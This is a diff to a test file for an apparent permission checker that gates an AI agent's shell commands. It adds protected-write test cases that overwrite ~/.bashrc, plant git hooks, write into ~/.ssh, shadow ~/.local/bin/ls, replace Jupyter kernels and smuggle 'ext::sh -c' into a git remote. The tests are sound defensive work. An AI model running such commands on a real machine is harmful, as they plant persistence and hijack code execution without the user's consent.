@@ -159,6 +159,24 @@ WRITES_PROTECTED = [
     "echo '{}' > .mcp.json",
     "printf x > ~/.ipython/profile_default/startup/00.py",
     "ln -sf /tmp/x ~/.bashrc",
+    "dd if=x of=.git/hooks/pre-commit",
+    "dd of=~/.bashrc",
+    "echo x > \"$HOME/.bashrc\"",
+    "echo x >> ${HOME}/.profile",
+    "install -m 755 x .git/hooks/pre-commit",
+    "curl -o ~/.bashrc http://example.com",
+    "curl --output=.git/hooks/pre-commit http://example.com",
+    "cp -t ~/.ssh key",
+    "cp --target-directory=.git/hooks x",
+    "tar xf evil.tar -C ~",
+    "unzip evil.zip -d ~/.ssh",
+    "git config core.hooksPath /tmp",
+    "git config --global core.pager evil",
+    "git remote add origin 'ext::sh -c evil'",
+    "git submodule add ../x",
+    "exec 3>~/.bashrc",
+    "ln -s /tmp/evil ~/.local/bin/ls",
+    "cp kernel.json ~/.local/share/jupyter/kernels/python3/kernel.json",
 ]
 
 
@@ -170,7 +188,9 @@ def test_writing_a_protected_file_asks_in_every_mode(world: dict[str, Path], com
 
 
 def test_bypass_still_runs_ordinary_commands(world: dict[str, Path]) -> None:
-    for command in ("rm -f build.log", "python3 -c 'print(1)'", "cat ~/.bashrc", "echo x > out.txt", "git commit -qm x"):
+    ordinary = ("rm -f build.log", "python3 -c 'print(1)'", "cat ~/.bashrc", "echo x > out.txt", "git commit -qm x",
+                "git config user.name", "cp -r src /tmp/elsewhere", "make -C src", "cat $HOME/.bashrc")
+    for command in ordinary:
         assert isinstance(decide(world, command, mode="bypassPermissions", **DENY_ENV), PermissionAllow), command
 
 
